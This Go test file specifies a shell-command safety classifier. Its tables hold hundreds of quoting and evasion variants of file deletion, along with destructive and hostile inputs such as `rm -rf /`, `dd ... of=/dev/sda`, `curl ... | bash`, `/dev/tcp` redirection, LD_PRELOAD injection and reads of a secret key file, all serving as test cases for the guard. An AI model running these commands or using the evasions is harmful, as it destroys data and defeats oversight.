package classify

import (
	"strings"
	"testing"
)

// The tables of this file are the specification of the evaluator for people
// who know shells: several spellings, one meaning, evasions beside the plain
// form.

func TestQuoting(t *testing.T) {
	var specs []spec
	for _, src := range []string{
		`rm a.txt`, `r"m" a.txt`, `r''m a.txt`, `'rm' a.txt`, `"rm" a.txt`, `\rm a.txt`, `r\m a.txt`, `$'rm' a.txt`,
		`$'\x72\x6d' a.txt`, `$'\162m' a.txt`, `$'\u0072m' a.txt`, `$"rm" a.txt`, `/bin/rm a.txt`, `/usr/bin/../bin/rm a.txt`, `command rm a.txt`,
		`builtin command rm a.txt`, `FOO=1 rm a.txt`, `exec rm a.txt`, `rm "a".'t'xt`, `rm a.t\xt`, `rm "a.txt"`, `rm -- a.txt`,
		`! rm a.txt`, `time rm a.txt`, `(rm a.txt)`, `{ rm a.txt; }`, `((1)); rm a.txt`, `x=rm; $x a.txt`, `x=rm; "$x" a.txt`,
		`x='rm a.txt'; $x`, `c=(rm a.txt); "${c[@]}"`, `c=(rm a.txt); ${c[*]}`, `$(echo rm) a.txt`, "`echo rm` a.txt", `printf -v c rm; $c a.txt`,
		`eval rm a.txt`, `eval 'rm a.txt'`, `eval "eval 'rm a.txt'"`, `bash -c 'rm a.txt'`, `sh -c "rm a.txt"`, `bash -ec 'rm a.txt'`, `bash -c 'rm "$1"' _ a.txt`,
		`bash -c "bash -c 'rm a.txt'"`, `bash <<< 'rm a.txt'`, "bash <<X\nrm a.txt\nX", "cat <<'X' | sh\nrm a.txt\nX", `echo 'rm a.txt' | bash`,
		`printf 'rm a.txt' | sh`, `. /dev/stdin <<< 'rm a.txt'`, `source <(echo rm a.txt)`, `bash <(echo rm a.txt)`, `f() { rm a.txt; }; f`,
		`f() { rm "$1"; }; f a.txt`, `function f { rm a.txt; }; f`, `trap 'rm a.txt' EXIT`,
		`true && rm a.txt`, `false || rm a.txt`, `true & rm a.txt`, `rm a.txt &`, `if true; then rm a.txt; fi`, `if x=1; then :; else rm a.txt; fi`,
		`for i in 1; do rm a.txt; done`, `for i in a.txt; do rm $i; done`, `while rm a.txt; do break; done`, `until rm a.txt; do :; done`,
		`case x in x) rm a.txt;; esac`, `case x in y) ;; *) rm a.txt;; esac`, `coproc rm a.txt`, `select i in a.txt; do rm $i; done`, `echo $(rm a.txt)`, "echo `rm a.txt`", `cat <(rm a.txt)`,
		`echo "${x:-$(rm a.txt)}"`, `x[$(rm a.txt)]=1`, `echo ${x[$(rm a.txt)]}`, `: $((x[$(rm a.txt)]))`, `[[ -f $(rm a.txt) ]]`, "cat <<X\n$(rm a.txt)\nX",
		`rm {a.txt,nope}`, `rm a.{txt,md}`, `rm a.t?t`, `rm [a].txt`, `rm ./a.txt`, `rm src/../a.txt`, `rm ~/app/a.txt`, `rm "$HOME/app/a.txt"`, `rm $HOME/app/a.txt`,
		`rm "$PWD"/a.txt`, `rm $(pwd)/a.txt`, `cd src; rm ../a.txt`, `(cd src && rm ../a.txt)`, `pushd src; rm ../a.txt`, `cd src; cd -; rm ./a.txt`, `cd src && cd .. && rm a.txt`,
		`x=a.txt; rm $x`, `x=a; rm $x.txt`, `x=a; rm ${x}.txt`, `x=a.txt.bak; rm ${x%.bak}`, `x=/q/a.txt; rm ${x##*/}`, `x=A.TXT; rm ${x,,}`, `x=a-txt; rm ${x/-/.}`,
		`x=xa.txt; rm ${x:1}`, `y=x; x=a.txt; rm ${!y}`, `unset x; rm ${x:=a.txt}`, `unset x; rm ${x-a.txt}`, `x=1; rm ${x:+a.txt}`, `set -- a.txt; rm "$1"`, `set -- a.txt; rm "$@"`,
		`read f <<< a.txt; rm $f`, `read -r f < <(echo a.txt); rm "$f"`, `echo a.txt | while read f; do rm "$f"; done`, `echo a.txt | xargs rm`, `mapfile -t f <<< a.txt; rm "${f[@]}"`,
		`mapfile -C 'rm a.txt;:' -c 1 f <<< x`, `PROMPT_COMMAND='rm a.txt'`, `echo 'rm a.txt' > s.sh; sh s.sh`, `echo 'rm a.txt' > s.sh; . ./s.sh`, `echo 'rm a.txt' > s.sh; sh < s.sh`,
		`let x=1; rm a.txt`, `declare f=a.txt; rm $f`, `export f=a.txt; sh -c 'rm $f'`, `f=a.txt sh -c 'rm $f'`, "rm \\\na.txt", "rm a.txt # b.txt", "echo x\nrm a.txt", `: ; rm a.txt`,
		`exit; rm a.txt`, `return 0; rm a.txt`, `exit 0 || rm a.txt`, `f() { return; rm a.txt; }; f`, `> /dev/null rm a.txt`, `rm a.txt >/dev/null 2>&1`, `rm a.txt 2>&1 | cat`, `rm a.txt |& cat`,
	} {
		specs = append(specs, spec{src, "i *"})
	}
	for _, s := range specs {
		v := Command(testContext("bash"), s.src)
		found := false
		for _, e := range v.Effects {
			found = found || e.Kind == Delete && e.Path == testApp+"/a.txt"
		}
		if v.Class != Invertible || !found {
			t.Errorf("%q: %s, effects %q; %s", s.src, v.Class, brief(v), why(v))
		}
	}
}

func TestTextThatOnlyNamesACommand(t *testing.T) {
	var specs []spec
	for _, src := range []string{
		``, ` `, `# rm -rf /`, `echo "rm -rf ~"`, `echo rm -rf / \; ls`, `grep "rm -rf ~" a.txt`, `printf '%s\n' 'rm -rf /'`, `: rm -rf /`, `echo '$(rm a.txt)'`,
		`echo "\$(rm a.txt)"`, "cat <<'X'\n$(rm a.txt)\nrm -rf /\nX", `x='rm -rf /'`, `x="rm -rf /"; echo "$x"`, `f() { rm -rf /; }`, `alias q='rm -rf /'`, `[ -f a.txt ]`, `[[ a == b ]]`,
		`ls > /dev/null 2>&1`, `cat < a.txt`, `rm nope`, `rm -rf nope`, `rm -f nope/x`, `mkdir -p new/dir`, `touch new`, `echo x > new`, `echo x >> new/file`, `ls &> /dev/null`, `ls >&2`, `ls 2>&1`,
		`exec 3>&1`, `bash -n evil.sh`, `command -v rm`, `type rm`, `trap - EXIT`, `trap '' INT`, `set -euo pipefail`, `shopt -s nullglob`, `cd src && ls`, `rm`, `rm -f`, `cd`, `echo x > /dev/stderr`, `echo x > /dev/tcp/h/1`,
		`x=$(ls); echo "$x"`, `echo ~ ~/x "$HOME"`, `for f in *; do echo "$f"; done`, `while read f; do echo "$f"; done < list`, `if [ -d src ]; then echo yes; else echo no; fi`, `read x`, `test -e a.txt && echo y`,
	} {
		specs = append(specs, spec{src, "n *"})
	}
	runSpecs(t, "bash", specs)
}

func TestRedirections(t *testing.T) {
	runSpecs(t, "bash", []spec{
		{`> a.txt`, "i O a.txt"},
		{`: > a.txt`, "i O a.txt"},
		{`echo x > a.txt`, "i O a.txt"},
		{`echo x >| a.txt`, "i O a.txt"},
		{`echo x >> a.txt`, "i O a.txt"},
		{`echo x <> a.txt`, "i O a.txt"},
		{`echo x &> a.txt`, "i O a.txt"},
		{`echo x &>> a.txt`, "i O a.txt"},
		{`echo x >& a.txt`, "i O a.txt"},
		{`echo x 2> a.txt`, "i O a.txt"},
		{`echo x 2>> a.txt`, "i O a.txt"},
		{`echo x 3> a.txt`, "i O a.txt"},
		{`exec 3> a.txt`, "i O a.txt"},
		{`exec {fd}> a.txt`, "i O a.txt"},
		{`exec > a.txt`, "i O a.txt"},
		{`{ echo x; } > a.txt`, "i O a.txt"},
		{`(echo x) > a.txt`, "i O a.txt"},
		{`for i in 1 2; do echo $i; done > a.txt`, "i O a.txt"},
		{`while false; do :; done > a.txt`, "i O a.txt"},
		{`f() { echo x; } > a.txt; f`, "i O a.txt"},
		{`x=a.txt; echo > "$x"`, "i O a.txt"},
		{`echo > a.t*`, "i O a.txt"},
		{`echo x > file_link`, "i O a.txt"},
		{`echo x > dangling`, "n C nowhere"},
		{`echo x > real_link/f`, "i O /home/dev/other/f"},
		{`echo x > src`, "n "},
		{`echo x > new`, "n C new"},
		{`echo x > new; echo y > new; echo z >> new`, "n C new"},
		{`echo x > 1`, "n C 1"},
		{`cd d; echo x > 1`, "i O d/1"},
		{`echo x > /dev/null`, "n "},
		{`echo x > /dev/sda`, "x "},
		{`echo x > "$UNSET"`, "x "},
		{`echo x > "$UNSET/log"`, "x "},
		{`echo x > "/home/dev/app/$(date +%s).log"`, "n "},
		{`cat <<X > a.txt` + "\ntext\nX", "i O a.txt"},
		{`ls > >(cat)`, "n "},
		{`ls > >(rm a.txt)`, "i D a.txt"},
		{`tee a.txt < /dev/null`, "i O a.txt"},
		{`rm a.txt > b.txt`, "i D a.txt, O b.txt"},
	})
}

func TestNamedCases(t *testing.T) {
	runSpecs(t, "bash", []spec{
		{`mv src/* dst/ && rm -rf dst/*`, "i D dst/.dot/?, D dst/a.txt/, D dst/b.c/, D dst/sub/, D dst/z, M src/.dot>dst/.dot?, M src/a.txt>dst/a.txt, M src/b.c>dst/b.c, M src/sub/>dst/sub, O dst/a.txt"},
		{`cp -r src dst && rm -rf src dst`, "i C dst/src/, D dst/, D src/"},
		{`mkdir t && cp a.txt t && rm -rf t`, "n C t/, C t/a.txt"},
		{`d=$(mktemp -d); cp a.txt "$d"; rm -rf "$d"`, "n "},
		{`d=$(mktemp -d) && cd "$d" && rm -rf * && cd - && rm a.txt`, "i D a.txt"},
		{`d=$(mktemp -d); trap 'rm -rf "$d"' EXIT; echo x > "$d/f"`, "n "},
		{`f=$(mktemp); echo x > "$f"; mv "$f" a.txt`, "i O a.txt"},
		{`d=$(mktemp -d); ln -s ~/other "$d/l"; rm -rf "$d"/l/*`, "i D /home/dev/other/f, D /home/dev/other/g"},
		{`d=$(mktemp -d); mv src "$d"/; rm -rf "$d"`, "i D src/"},
		{`rm -rf "$UNSET"/*`, "x "},
		{`rm -rf ${UNSET}/`, "x "},
		{`cd d; rm -rf *`, "i D d/1, D d/2"},
		{`cd d && rm -rf *`, "i D d/1, D d/2"},
		{`cd nope && rm -rf *`, "n "},
		{`cd nope; rm -rf d`, "i D d/"},
		{`cd nope || exit; rm -rf d`, "i D d/"},
		{`mkdir -p new; cd new; rm -rf *`, "n C new/"},
		{`rm -rf ${UNSET:-build}`, "x D build/"},
		{`unset X; rm -rf ${X:-build}`, "i D build/"},
		{`source venv/bin/activate && rm -rf build`, "i D build/"},
		{`. ./vars.sh; rm -rf "$OUT"`, "i D build/"},
		{`. ./vars.sh; clean`, "i D build/"},
		{`rm -rf build && mkdir build && cp a.txt build/ && rm -rf build`, "i C build/a.txt, D build/"},
		{`ln -s ~/other l; rm -rf l/*`, "i C l, D /home/dev/other/f, D /home/dev/other/g"},
		{`ln -s ~/other l && echo > l/f`, "i C l, O /home/dev/other/f"},
		{`cp a.txt new; echo > new; rm new`, "n C new"},
		{`ln a.txt hard; echo x > hard`, "i C hard, O a.txt"},
		{`mv a.txt new; echo x > new; rm new`, "i M a.txt>new, O new"},
		{`mv src new; rm -rf new`, "i D new/, M src/>new"},
		{`mv src new; rm new/a.txt`, "i D new/a.txt, M src/>new"},
		{`for f in *.txt; do mv "$f" "${f%.txt}.md"; done`, "i M a.txt>a.md, M b.txt>b.md, M with space.txt>with space.md"},
		{`for i in $(seq 1 3); do rm -f log.$i; done`, "i D log.1, D log.2"},
		{`i=0; while [ $i -lt 5 ]; do i=$((i+1)); rm -f log.$i; done`, "i D log.1, D log.2"},
		{`rm log.$RANDOM`, "i D log.1, D log.2"},
		{`rm log.$(date +%Y)`, "i D log.1, D log.2"},
		{`rm log.$(date +%b)`, "i D log.1, D log.2, D log.x"},
		{`rm -rf src/*`, "i D src/.dot?, D src/a.txt, D src/b.c, D src/sub/"},
		{`shopt -s dotglob; rm -rf src/*`, "i D src/.dot, D src/a.txt, D src/b.c, D src/sub/"},
		{`set -f; rm src/*`, "n "},
		{`rm src/!(a.txt)`, "i D src/.dot?, D src/b.c"},
		{`rm src/**`, "i *"},
		{`shopt -s globstar; rm **/deep.txt`, "i D src/sub/deep.txt"},
		{`rm "src/*"`, "n "},
		{`rm 'with space.txt'`, "i D with space.txt"},
		{`rm with\ space.txt`, "i D with space.txt"},
		{`f="with space.txt"; rm "$f"`, "i D with space.txt"},
		{`f="a.txt b.txt"; rm $f`, "i D a.txt, D b.txt"},
		{`f="a.txt b.txt"; rm "$f"`, "n "},
		{`f="*.txt"; rm $f`, "i D a.txt, D b.txt, D with space.txt"},
		{`IFS=,; f=a.txt,b.txt; rm $f`, "i D a.txt, D b.txt"},
		{`rm ./-dash`, "i D -dash"},
		{`rm -- -dash`, "i D -dash"},
		{`rm '~'`, "i D ~"},
		{`rm '${VAR}'`, "i D ${VAR}"},
		{`rm file_link`, "i D file_link"},
		{`rm real_link`, "i D real_link"},
		{`rm -rf real_link`, "i D real_link"},
		{`rm -rf real_link/`, "i D /home/dev/other/, D real_link"},
		{`rm -rf real_link/*`, "i D /home/dev/other/f, D /home/dev/other/g"},
		{`rm real_link/../a.txt`, "n "},
		{`cd real_link && rm ../app/a.txt`, "i D a.txt"},
		{`rm loop/x`, "n "},
		{`while read f; do rm "$f"; done < list`, "i D src/a.txt, D src/b.c"},
		{`while IFS= read -r f; do rm "$f"; done < list`, "i D src/a.txt, D src/b.c"},
		{`while read -r -d '' f; do rm "$f"; done < <(find src -name '*.c' -print0)`, "i D src/b.c"},
		{`cat list | while read f; do rm "$f"; done`, "i D src/a.txt, D src/b.c"},
		{`for f in $(cat list); do rm $f; done`, "i D src/a.txt, D src/b.c"},
		{`rm $(cat list)`, "i D src/a.txt, D src/b.c"},
		{`rm $(<list)`, "i D src/a.txt, D src/b.c"},
		{`xargs rm < list`, "i D src/a.txt, D src/b.c"},
		{`find src -name '*.c' | xargs rm`, "i D src/b.c"},
		{`find src -name '*.c' -delete`, "i D src/b.c"},
		{`ls src | while read f; do rm "src/$f"; done`, "i *"},
		{`[ -f a.txt ] && rm a.txt`, "i D a.txt"},
		{`[ -d x ] || rm a.txt`, "i D a.txt"},
		{`rm -rf src & wait`, "i D src/"},
		{`(sleep 5; rm -rf dst/*) & mv src/b.c dst/`, "i D dst/a.txt, D dst/b.c/, D dst/z, M src/b.c>dst/b.c"},
		{`x=a.txt; f() { local x=b.txt; rm $x; }; f; rm $x`, "i D a.txt, D b.txt"},
		{`x=a.txt; (x=b.txt); rm $x`, "i D a.txt"},
		{`x=a.txt; [ "$Q" ] && x=b.txt; rm $x`, "i D a.txt, D b.txt"},
		{`if [ "$Q" ]; then x=a.txt; else x=b.txt; fi; rm $x`, "i D a.txt, D b.txt"},
		{`rm -f d/*; rmdir d`, "i D d, D d/1, D d/2"},
		{`rmdir d`, "n "},
		{`rm -f b.txt; cp list [ab].txt`, "i C b.txt/a.txt, C b.txt/list, D b.txt, O a.txt"},
		{`rm a.txt; a=(?.txt); rm "${a[0]}"`, "i D a.txt, D b.txt"},
		{`rm a.txt; rm "$(ls | head -1)"`, "x *"},
		{`mapfile -C rm -c 1 -t x <<< a.txt`, "i D a.txt"},
		{`case $Q in 1) x=a.txt;; *) x=b.txt;; esac; rm -f $x`, "i D a.txt, D b.txt"},
	})
}

func TestProtectedPlaces(t *testing.T) {
	var specs []spec
	for _, src := range []string{
		`rm -rf /`, `rm -rf ~`, `rm -rf ~/`, `rm -rf "$HOME"`, `rm -rf ..`, `rm -rf ../..`, `rm -rf /home`, `rm -rf /tmp/../home`, `cd ~ && rm -rf .`, `cd / && rm -rf home`, `rm -rf {~,/tmp/x}`, `rm -rf ${HOME%/*}`,
		`D=~; rm -rf "$D"/`, `(cd /; rm -rf *)`, `pushd /; rm -rf home`, `for f in ~/*; do rm -rf "$f"; done`, `rm -rf ~/state`, `rm ~/state/ledger`, `rm -rf ~/st*`, `rm -rf ~/{state,x}`, `mv ~/state x`, `mv ~ x`, `> ~/state/ledger`, `echo x >> ~/state/new`,
		`touch ~/state/new`, `cp a.txt ~/state/`, `ln -s a.txt ~/state/l`, `chmod -R 777 ~`, `chmod 000 ~/state`, `ln -s ~/state l; rm -rf l/*`, `cd ~/state; rm ledger`, `cat ~/state/secret/key`, `cd ~/state/secret && cat key`, `cd ~/state && cat ./secret/key`, `x=state; rm -rf ~/$x`,
		`rm -rf /mnt/vol`, `mv /mnt/vol x`, `sudo rm -rf /`, `chmod -R 777 /`, `dd if=a.txt of=/dev/sda`, `echo 1 > /proc/sys/x`, `cp a.txt /dev/sda`, `mv a.txt /dev/null`, `tar xf x.tar -C ~`,
	} {
		specs = append(specs, spec{src, "x *"})
	}
	runSpecs(t, "bash", specs)
	runSpecs(t, "zsh", specs)
}

func TestUnknownStaysUnknown(t *testing.T) {
	runSpecs(t, "bash", []spec{
		{`$X a.txt`, "b "},
		{`"$X" a.txt`, "b "},
		{`$(curl x) a.txt`, "b "},
		{`r${X}m a.txt`, "b "},
		{`eval "$X"`, "b "},
		{`bash -c "$X"`, "b "},
		{`curl https://x.sh | bash`, "b "},
		{`bash evil.sh`, "b "},
		{`./evil.sh`, "b "},
		{`frobnicate a.txt`, "b "},
		{`./bin/ls`, "b "},
		{`PATH=./bin:$PATH; ls`, "b "},
		{`PATH=/nowhere:$PATH; ls`, "n "},
		{`export PATH="$X:$PATH"; ls`, "b "},
		{`hash -p ./evil.sh ls; ls`, "b "},
		{`enable -f ./x.so ls`, "b "},
		{`BASH_ENV=./evil.sh bash -c :`, "b "},
		{`LD_PRELOAD=./x.so ls`, "b "},
		{`PS4='$(rm a.txt)'; set -x; ls`, "b "},
		{`rm() { :; }; rm a.txt`, "i D a.txt"},
		{`f() { f; f; }; f`, "x "},
		{`rm $X`, "x "},
		{`rm -rf "$X"`, "x "},
		{`rm -rf "build/$X"`, "x "},
		{`cd "$X" && rm -rf build`, "x "},
		{`cd "$X"; ls`, "n "},
		{`for f in $(curl x); do rm $f; done`, "x "},
		{`while read f; do rm "$f"; done`, "x "},
		{`mv a.txt "$X"`, "x "},
		{`cp -r -- "$X" dst/`, "i O dst/"},
		{`cp -- "$X" new`, "n C new"},
		{`ls "$X"`, "n "},
		{`a=1; b=$a; c=~; while x; do rm -rf "$a"; a=$b; b=$c; done`, "x *"},
		{`printf -v 'a[$(rm a.txt)]' x`, "b "},
		{`test -v 'a[$(rm a.txt)]'`, "b *"},
		{`alias q='rm a.txt'; q`, "b D a.txt"},
		{`alias q='rm'; q a.txt`, "b D a.txt"},
		{`x='a[$(rm a.txt)]'; echo $((x))`, "b "},
		{`declare -n r=X; rm "$r"`, "x "},
		{`rm unreadable/x`, "i D unreadable/x"},
		{`rm -rf unreadable`, "i D unreadable/"},
	}[:])
}

func TestPlainShReading(t *testing.T) {
	runSpecs(t, "sh", []spec{
		{`rm {a.txt,b.txt}`, "i D a.txt, D b.txt"},
		{`rm '{x,y}' {x,y}`, "i D {x,y}"},
		{`rm a.txt &>b.txt`, "i D a.txt, O b.txt"},
	})
}

func TestManyParts(t *testing.T) {
	v := Command(testContext("bash"), strings.Repeat("ls; ", 900)+"rm a.txt")
	if len(v.Parts) > maxParts+1 || v.Class != Invertible || v.Parts[len(v.Parts)-1].Class != Invertible {
		t.Errorf("%d parts, %s", len(v.Parts), v.Class)
	}
}

func TestZshReading(t *testing.T) {
	runSpecs(t, "zsh", []spec{
		{`=rm a.txt`, "i D a.txt"},
		{`rm ~""/app/a.txt`, "i D a.txt"},
		{`unset x; rm $x~/app/a.txt`, "i D a.txt"},
		{`a=(a.txt b.txt); rm $a`, "i D a.txt, D b.txt"},
		{`f='with space.txt'; rm $f`, "i D with space.txt"},
		{`rm src/*(.)`, "i *"},
		{`rm src/(a|b).txt`, "i D src/a.txt"},
		{`rm log.<1-2>`, "i D log.1, D log.2"},
		{`: src/*(e:'rm a.txt':)`, "b "},
		{`TRAPEXIT() { rm a.txt }`, "i D a.txt"},
		{`emulate sh -c 'rm a.txt'`, "i D a.txt"},
		{`noglob rm a.txt`, "i D a.txt"},
		{`repeat 2 rm a.txt`, "i D a.txt"},
		{`for f (a.txt b.txt) rm $f`, "x "},
		{`{ ls } always { rm a.txt }`, "x "},
		{`rm a.txt >>! b.txt`, "i *"},
		{`echo x >! a.txt`, "i *"},
		{`echo a.txt | read f; rm $f`, "i *"},
		{`() { rm a.txt }`, "i D a.txt"},
	})
}
